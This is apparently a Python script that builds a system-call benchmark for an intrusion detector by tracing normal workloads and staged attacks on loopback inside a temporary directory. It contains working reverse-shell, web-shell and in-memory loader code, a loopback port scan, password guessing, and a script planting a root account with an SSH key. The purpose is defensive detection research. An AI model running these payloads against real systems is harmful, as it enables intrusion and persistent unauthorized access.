#!/usr/bin/env python3
"""Record a small system-call benchmark for `castellan detect` with strace.

Every workload runs under `strace -f -n` in a private temporary directory, talking to
servers on 127.0.0.1 only; each traced process becomes one trace file (its system-call
numbers separated by spaces, the format `castellan detect` reads). Output:

    OUT/train/        normal traces to train on
    OUT/validation/   normal traces held out (false-alarm rate)
    OUT/attack/FAMILY attack traces, one folder per staged attack family

The attacks are staged, local and harmless: brute force against a toy login server,
adding a user to a sandbox copy of passwd/shadow files, a reverse shell to a loopback
listener, a web shell behind a loopback HTTP server, reconnaissance (reading many files,
scanning loopback ports) and an in-memory loader. Nothing leaves the temporary directory
or the loopback interface.

Usage: record.py OUT [--runs N] [--seed S]
"""

import argparse
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import textwrap

LINE = re.compile(r"^(\d+)\s+\[\s*(\d+)\]")
MIN_EVENTS = 8

LOGIN_SERVER = textwrap.dedent(r'''
    import hashlib, os, socket, sys
    users = {}
    for line in open("users.db"):
        name, salt, digest = line.split(":")
        users[name] = (bytes.fromhex(salt), digest.strip())
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0)); srv.listen(8)
    open("port", "w").write(str(srv.getsockname()[1]))
    sessions = int(sys.argv[1])
    for _ in range(sessions):
        conn, _ = srv.accept()
        f = conn.makefile("rwb")
        f.write(b"220 ready\r\n"); f.flush()
        while True:
            user = f.readline().strip().decode()
            if not user: break
            pw = f.readline().strip()
            salt, digest = users.get(user, (b"x", ""))
            if hashlib.pbkdf2_hmac("sha256", pw, salt, 2000).hex() == digest:
                f.write(b"230 logged in\r\n"); f.flush()
                cmd = f.readline().strip().decode()
                if cmd == "LIST":
                    f.write(("\r\n".join(sorted(os.listdir("files"))) + "\r\n.\r\n").encode())
                elif cmd.startswith("RETR "):
                    name = os.path.basename(cmd[5:])
                    f.write(open(os.path.join("files", name), "rb").read() + b"\r\n.\r\n")
                f.flush(); break
            f.write(b"530 login incorrect\r\n"); f.flush()
        conn.close()
''')

LOGIN_CLIENT = textwrap.dedent(r'''
    import socket, sys
    port = int(open("port").read())
    attempts = sys.argv[1:]
    s = socket.create_connection(("127.0.0.1", port)); f = s.makefile("rwb")
    f.readline()
    for pair in attempts:
        user, pw, cmd = pair.split(",")
        f.write(f"{user}\n{pw}\n".encode()); f.flush()
        if f.readline().startswith(b"230"):
            f.write(f"{cmd}\n".encode()); f.flush()
            while f.readline().strip() not in (b".", b""): pass
            break
    s.close()
''')

HTTP_SERVER = textwrap.dedent(r'''
    import http.server, os, subprocess, sys, urllib.parse
    class H(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *a): pass
        def do_GET(self):
            q = urllib.parse.urlparse(self.path)
            if q.path == "/shell.php":
                cmd = urllib.parse.parse_qs(q.query).get("c", ["id"])[0]
                out = subprocess.run(cmd, shell=True, capture_output=True).stdout
                self.send_response(200); self.end_headers(); self.wfile.write(out)
                return
            return super().do_GET()
    srv = http.server.HTTPServer(("127.0.0.1", 0), H)
    open("port", "w").write(str(srv.server_address[1]))
    for _ in range(int(sys.argv[1])):
        srv.handle_request()
''')

HTTP_CLIENT = textwrap.dedent(r'''
    import sys, urllib.request
    port = int(open("port").read())
    for path in sys.argv[1:]:
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=10).read()
        except Exception:
            pass
''')

REVERSE_LISTENER = textwrap.dedent(r'''
    import socket, sys, time
    srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
    open("port", "w").write(str(srv.getsockname()[1]))
    conn, _ = srv.accept()
    for cmd in sys.argv[1:] + ["exit"]:
        conn.sendall((cmd + "\n").encode()); time.sleep(0.05)
    conn.settimeout(2)
    try:
        while conn.recv(4096): pass
    except OSError:
        pass
''')

REVERSE_PAYLOAD = textwrap.dedent(r'''
    import os, socket, subprocess, time
    for _ in range(100):
        if os.path.exists("port") and open("port").read(): break
        time.sleep(0.02)
    s = socket.create_connection(("127.0.0.1", int(open("port").read())))
    for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])
''')

LOADER = textwrap.dedent(r'''
    import ctypes, mmap, os, socket, sys, time
    for _ in range(100):
        if os.path.exists("port") and open("port").read(): break
        time.sleep(0.02)
    s = socket.create_connection(("127.0.0.1", int(open("port").read())))
    stage = b""
    while len(stage) < 4096:
        chunk = s.recv(4096)
        if not chunk: break
        stage += chunk
    buf = mmap.mmap(-1, 1 << 16, prot=mmap.PROT_READ | mmap.PROT_WRITE)
    buf.write(stage)
    libc = ctypes.CDLL(None)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
    libc.mprotect(ctypes.c_void_p(addr & ~4095), 1 << 16, 1 | 4)
    for _ in range(int(sys.argv[1])):
        s.sendall(os.uname().nodename.encode() + str(os.getpid()).encode())
        os.listdir("/proc/self/fd"); time.sleep(0.01)
    s.close()
''')

STAGE_SENDER = textwrap.dedent(r'''
    import os, socket
    srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
    open("port", "w").write(str(srv.getsockname()[1]))
    conn, _ = srv.accept(); conn.sendall(os.urandom(4096))
    while conn.recv(4096): pass
''')

PY_WORK = [
    "import json,sys; d={str(i):i*i for i in range(N)}; open('d.json','w').write(json.dumps(d)); print(len(json.load(open('d.json'))))",
    "import hashlib; print(hashlib.sha256(open('files/a.txt','rb').read()*N).hexdigest())",
    "import os; [os.stat(os.path.join('files',f)) for f in os.listdir('files')]; print(N)",
    "import csv; w=csv.writer(open('t.csv','w')); [w.writerow([i,i*2]) for i in range(N)]; print(sum(1 for _ in open('t.csv')))",
    "import re; t=open('files/a.txt').read(); print(len(re.findall(r'\\w+', t*N)))",
    "import sqlite3; c=sqlite3.connect('db.sqlite'); c.execute('create table if not exists t(x)'); c.executemany('insert into t values(?)',[(i,) for i in range(N)]); c.commit(); print(c.execute('select count(*) from t').fetchone())",
    "import zipfile; z=zipfile.ZipFile('a.zip','w'); [z.write(os.path.join('files',f)) for f in os.listdir('files')]; z.close()".replace("import zipfile", "import os, zipfile"),
    "import subprocess; print(subprocess.run(['date'],capture_output=True).stdout)",
    "import time, threading; t=[threading.Thread(target=sum,args=(range(N),)) for _ in range(3)]; [x.start() for x in t]; [x.join() for x in t]",
]

C_PROGRAM = "#include <stdio.h>\nint main(void){int s=0;for(int i=0;i<N;i++)s+=i;printf(\"%d\\n\",s);return 0;}\n"


class Recorder:
    def __init__(self, out, rng):
        self.out = out
        self.rng = rng
        self.count = {}

    def strace(self, tag, argv, cwd, background=False):
        log = os.path.join(cwd, f".strace-{tag}-{self.rng.randrange(1 << 30)}")
        cmd = ["strace", "-f", "-n", "-qq", "-o", log] + argv
        if background:
            proc = subprocess.Popen(cmd, cwd=cwd, stdin=subprocess.DEVNULL,
                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            return proc, log
        subprocess.run(cmd, cwd=cwd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, timeout=120)
        return None, log

    def split(self, log, dest):
        """One trace per process of the strace log."""
        per_pid = {}
        try:
            lines = open(log, errors="replace").read().splitlines()
        except FileNotFoundError:
            return
        for line in lines:
            m = LINE.match(line)
            if m:
                per_pid.setdefault(m.group(1), []).append(m.group(2))
        os.makedirs(os.path.join(self.out, dest), exist_ok=True)
        for calls in per_pid.values():
            if len(calls) < MIN_EVENTS:
                continue
            n = self.count.get(dest, 0)
            self.count[dest] = n + 1
            with open(os.path.join(self.out, dest, f"{n:05}.trace"), "w") as f:
                for i in range(0, len(calls), 20):
                    f.write(" ".join(calls[i:i + 20]) + "\n")

    def normal_dest(self):
        return "train" if self.rng.random() < 0.35 else "validation"


def sandbox(rng):
    d = tempfile.mkdtemp(prefix="castellan-detect-bench-")
    os.makedirs(os.path.join(d, "files"))
    words = ["alpha", "beta", "gamma", "delta", "sensor", "flash", "update", "token"]
    for i in range(rng.randint(3, 12)):
        with open(os.path.join(d, "files", f"f{i}.txt"), "w") as f:
            f.write(" ".join(rng.choice(words) for _ in range(rng.randint(10, 2000))))
    shutil.copy(os.path.join(d, "files", "f0.txt"), os.path.join(d, "files", "a.txt"))
    with open(os.path.join(d, "index.html"), "w") as f:
        f.write("<html>ok</html>")
    import hashlib
    with open(os.path.join(d, "users.db"), "w") as f:
        for user, pw in (("alice", "correct horse"), ("bob", "battery staple")):
            salt = os.urandom(8)
            f.write(f"{user}:{salt.hex()}:{hashlib.pbkdf2_hmac('sha256', pw.encode(), salt, 2000).hex()}\n")
    for name in ("passwd", "shadow", "group"):
        with open(os.path.join(d, name), "w") as f:
            f.write("root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n")
    with open(os.path.join(d, "login_server.py"), "w") as f:
        f.write(LOGIN_SERVER)
    with open(os.path.join(d, "login_client.py"), "w") as f:
        f.write(LOGIN_CLIENT)
    with open(os.path.join(d, "http_server.py"), "w") as f:
        f.write(HTTP_SERVER)
    with open(os.path.join(d, "http_client.py"), "w") as f:
        f.write(HTTP_CLIENT)
    return d


def wait_port(d):
    import time
    for _ in range(500):
        p = os.path.join(d, "port")
        if os.path.exists(p) and open(p).read():
            return
        time.sleep(0.02)


def serve_and_drive(rec, d, server_argv, client_argv, dest, trace_client):
    if os.path.exists(os.path.join(d, "port")):
        os.remove(os.path.join(d, "port"))
    proc, log = rec.strace("srv", server_argv, d, background=True)
    wait_port(d)
    if trace_client:
        _, clog = rec.strace("cli", client_argv, d)
        rec.split(clog, dest)
    else:
        subprocess.run(client_argv, cwd=d, timeout=120, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)
    try:
        proc.wait(timeout=60)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()
    rec.split(log, dest)


def normal_run(rec, d):
    rng = rec.rng
    kind = rng.choice(["shell", "shell", "python", "python", "compile", "http", "login"])
    dest = rec.normal_dest()
    if kind == "shell":
        cmds = [
            "ls -la files", "cat files/a.txt | wc -w", "cp -r files copy && rm -r copy",
            "tar czf a.tgz files && tar tzf a.tgz", "grep -rc gamma files", "sort files/a.txt | uniq -c | head",
            "find . -name '*.txt' | xargs sha256sum", "gzip -k files/a.txt && gunzip -c files/a.txt.gz > /dev/null && rm files/a.txt.gz",
            "sed 's/alpha/omega/g' files/a.txt > b.txt", "awk '{print NF}' files/a.txt", "date; id; uname -a",
            "head -c 1000 files/a.txt | od -c | tail -2", "du -sh files; df -h .",
        ]
        script = "; ".join(rng.sample(cmds, rng.randint(1, 4)))
        _, log = rec.strace("sh", ["sh", "-c", script], d)
    elif kind == "python":
        code = rng.choice(PY_WORK).replace("N", str(rng.randint(10, 3000)))
        _, log = rec.strace("py", [sys.executable, "-c", code], d)
    elif kind == "compile":
        with open(os.path.join(d, "p.c"), "w") as f:
            f.write(C_PROGRAM.replace("N", str(rng.randint(1, 100))))
        _, log = rec.strace("cc", ["sh", "-c", "cc -O1 -o p p.c && ./p"], d)
    elif kind == "http":
        paths = [rng.choice(["/", "/index.html", "/files/", f"/files/f{rng.randint(0, 3)}.txt", "/missing"])
                 for _ in range(rng.randint(1, 6))]
        serve_and_drive(rec, d, [sys.executable, "http_server.py", str(len(paths))],
                        [sys.executable, "http_client.py"] + paths, dest, rng.random() < 0.3)
        return
    else:
        user, pw = rng.choice([("alice", "correct horse"), ("bob", "battery staple")])
        tries = [f"{user},{pw},{rng.choice(['LIST', 'RETR f0.txt', 'RETR f1.txt'])}"]
        if rng.random() < 0.3:  # a typo first: normal users mistype once
            tries.insert(0, f"{user},{pw[:-1]},LIST")
        serve_and_drive(rec, d, [sys.executable, "login_server.py", "1"],
                        [sys.executable, "login_client.py"] + tries, dest, rng.random() < 0.3)
        return
    rec.split(log, dest)


def attack_run(rec, d, family):
    rng = rec.rng
    dest = os.path.join("attack", family)
    if family == "brute_force":
        guesses = [f"{rng.choice(['alice', 'admin', 'root', 'bob'])},{w},LIST"
                   for w in rng.sample(["123456", "password", "qwerty", "letmein", "admin", "root",
                                        "dragon", "monkey", "secret", "welcome", "abc123", "iloveyou"],
                                       rng.randint(5, 12))]
        serve_and_drive(rec, d, [sys.executable, "login_server.py", "1"],
                        [sys.executable, "login_client.py"] + guesses, dest, rng.random() < 0.5)
    elif family == "add_user":
        name = rng.choice(["toor", "backup2", "sysadm", "support"])
        script = (f"cp passwd passwd.bak; echo '{name}:x:0:0::/home/{name}:/bin/sh' >> passwd; "
                  f"echo '{name}:$6$salt$hash:19000:0:99999:7:::' >> shadow; "
                  f"echo '{name}:x:0:' >> group; mkdir -p home/{name}/.ssh; "
                  f"echo 'ssh-ed25519 AAAA attacker' > home/{name}/.ssh/authorized_keys; "
                  f"chmod 700 home/{name}/.ssh; chmod 600 home/{name}/.ssh/authorized_keys; "
                  f"grep {name} passwd; touch -r passwd.bak passwd")
        _, log = rec.strace("adduser", ["sh", "-c", script], d)
        rec.split(log, dest)
    elif family == "reverse_shell":
        cmds = rng.sample(["id", "uname -a", "cat passwd", "ls -la", "ps", "cat /proc/cpuinfo | head -3",
                           "env", "cat files/a.txt | head -c 100"], rng.randint(2, 5))
        staged(rec, d, dest, (REVERSE_LISTENER, cmds), (REVERSE_PAYLOAD, []))
    elif family == "web_shell":
        cmds = rng.sample(["id", "uname+-a", "cat+passwd", "ls+-la", "ps", "whoami", "cat+users.db"],
                          rng.randint(1, 4))
        paths = [f"/shell.php?c={c}" for c in cmds]
        serve_and_drive(rec, d, [sys.executable, "http_server.py", str(len(paths))],
                        [sys.executable, "http_client.py"] + paths, dest, False)
    elif family == "recon":
        script = rng.choice([
            "find /etc -maxdepth 2 -readable -type f 2>/dev/null | head -200 | xargs cat > /dev/null 2>&1",
            "for p in $(seq 1 60); do (exec 3<>/dev/tcp/127.0.0.1/$((20000+p))) 2>/dev/null; done",
            "ls -laR /proc/self/ > /dev/null 2>&1; cat /proc/net/tcp /etc/hosts /etc/resolv.conf > /dev/null 2>&1",
        ])
        _, log = rec.strace("recon", ["bash", "-c", script], d)
        rec.split(log, dest)
    elif family == "loader":
        staged(rec, d, dest, (STAGE_SENDER, []), (LOADER, [str(rng.randint(3, 20))]))


def staged(rec, d, dest, peer, payload):
    """Start the attacker's loopback peer (untraced), then trace the payload talking to it."""
    for name, (source, _) in (("peer.py", peer), ("payload.py", payload)):
        with open(os.path.join(d, name), "w") as f:
            f.write(source)
    if os.path.exists(os.path.join(d, "port")):
        os.remove(os.path.join(d, "port"))
    proc = subprocess.Popen([sys.executable, "peer.py"] + peer[1], cwd=d,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    wait_port(d)
    _, log = rec.strace("payload", [sys.executable, "payload.py"] + payload[1], d)
    try:
        proc.wait(timeout=60)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()
    rec.split(log, dest)


FAMILIES = ["brute_force", "add_user", "reverse_shell", "web_shell", "recon", "loader"]


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out")
    ap.add_argument("--runs", type=int, default=300, help="normal workload runs")
    ap.add_argument("--attack-runs", type=int, default=8, help="runs per attack family")
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    if shutil.which("strace") is None:
        sys.exit("record.py: strace not found; install it (apt-get install strace)")
    rng = random.Random(args.seed)
    rec = Recorder(args.out, rng)
    for i in range(args.runs):
        d = sandbox(rng)
        try:
            normal_run(rec, d)
        finally:
            shutil.rmtree(d, ignore_errors=True)
        if i % 25 == 0:
            print(f"normal run {i}/{args.runs}: {rec.count}", file=sys.stderr)
    for family in FAMILIES:
        for _ in range(args.attack_runs):
            d = sandbox(rng)
            try:
                attack_run(rec, d, family)
            finally:
                shutil.rmtree(d, ignore_errors=True)
        print(f"attack {family}: {rec.count}", file=sys.stderr)
    print(rec.count)


if __name__ == "__main__":
    main()
